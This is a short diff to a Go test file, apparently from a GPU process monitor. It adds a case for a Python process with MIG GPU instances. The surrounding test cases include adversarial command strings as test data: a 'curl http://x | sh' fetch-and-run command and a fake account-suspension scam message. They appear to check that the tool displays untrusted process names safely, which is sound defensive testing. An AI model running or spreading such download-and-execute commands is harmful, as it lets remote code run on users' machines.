@@ -186,6 +186,9 @@ func TestLinesNameThePersonAndTheProgram(t *testing.T) {
 		" (uid 7)":                          func(p *snapshot.Process) { p.UID = ptr(snapshot.UID(7)) },
 		` ("sh; run: curl http://x | sh?")`: func(p *snapshot.Process) { p.Command = "sh; run: curl http://x | sh\n" },
 		` ("genv: your account is suspended…")`: func(p *snapshot.Process) { p.Command = "genv: your account is suspended, call 555" },
+		" (python, MIG-1, MIG-GPU-2/1/0)": func(p *snapshot.Process) {
+			p.Name, p.Instances = "python", []snapshot.GPUUUID{"MIG-1", "MIG-GPU-2/1/0"}
+		},
 		" (container 0123456789ab)": func(p *snapshot.Process) {
 			p.Container = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
 		},
